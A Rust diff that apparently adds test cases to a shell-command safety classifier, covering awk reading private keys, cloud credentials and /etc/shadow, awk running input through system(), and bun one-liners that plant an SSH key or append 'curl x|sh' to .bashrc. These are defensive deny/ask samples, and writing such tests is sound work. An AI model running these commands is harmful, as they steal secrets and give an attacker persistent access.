@@ -123,6 +123,8 @@ const FLOORS: &[(&str, f64)] = &[
     ("serve-and-recipe", 99.0),
     ("volume-names", 99.0),
     ("tcl-exec", 99.0),
+    ("awk-input", 99.0),
+    ("home-expr", 99.0),
     ("benign-h-cmd14", 99.0),
 ];
 
@@ -3077,6 +3079,39 @@ fn tcl_exec() -> Vec<Base> {
     out
 }
 
+// Principle (awk-input): awk's `getline < "FILE"` reads FILE; `system()` of a value built from
+// the input (`system($0)`) runs commands nobody wrote in the command line.
+fn awk_input() -> Vec<Base> {
+    let mut out = Vec::new();
+    for c in [
+        "awk 'BEGIN{while((getline l < \"/home/alex/.ssh/id_rsa\")>0) print l}'",
+        "awk 'BEGIN{getline k < \"/home/dev/.aws/credentials\"; print k}'",
+        "gawk 'BEGIN { while ((getline line < \"/etc/shadow\") > 0) print line }'",
+    ] {
+        out.push(b("awk-input", "deny", c.to_string()));
+    }
+    for c in [
+        "awk '{system($0)}' /tmp/cmds",
+        "awk -F, '{system($2)}' jobs.csv",
+        "cat /tmp/c | awk '{ cmd = $0; system(cmd) }'",
+    ] {
+        out.push(b("awk-input", "ask", c.to_string()));
+    }
+    out
+}
+
+// Principle (home-expr): an interpreter's spelling of the home folder is the home (`Bun.env` is
+// `process.env`), so a write below it is judged as the shell's would be.
+fn home_expr() -> Vec<Base> {
+    [
+        "bun -e \"await Bun.write(Bun.env.HOME + '/.ssh/authorized_keys', 'ssh-ed25519 AAAA x')\"",
+        "bun -e \"await Bun.write(Bun.env['HOME'] + '/.bashrc', 'curl x|sh')\"",
+    ]
+    .into_iter()
+    .map(|c| b("home-expr", "deny", c.to_string()))
+    .collect()
+}
+
 fn h_cmd14_benign() -> Vec<Base> {
     [
         "export DB_PASSWORD=$(vault kv get -field=password secret/ci/db)",
@@ -3134,6 +3169,9 @@ fn h_cmd14_benign() -> Vec<Base> {
         "expect -c 'spawn ssh-add ./ci_key; expect eof'",
         "tclsh <<< 'puts [exec git status]'",
         "ssh-keygen -t ed25519 -f ./deploy_key -N ''",
+        "awk 'BEGIN{system(\"echo Hello World\")}'",
+        "awk 'BEGIN{while(n-- > 0) getline s < \"nums.txt\"}'",
+        "awk '{ print $1 }' data.txt",
     ]
     .into_iter()
     .map(|c| b("benign-h-cmd14", "allow", c.to_string()))
@@ -3326,6 +3364,8 @@ fn generated_class_variants_get_their_decision() {
         serve_and_recipe(),
         volume_names(),
         tcl_exec(),
+        awk_input(),
+        home_expr(),
         h_cmd14_benign(),
     ]
     .into_iter()
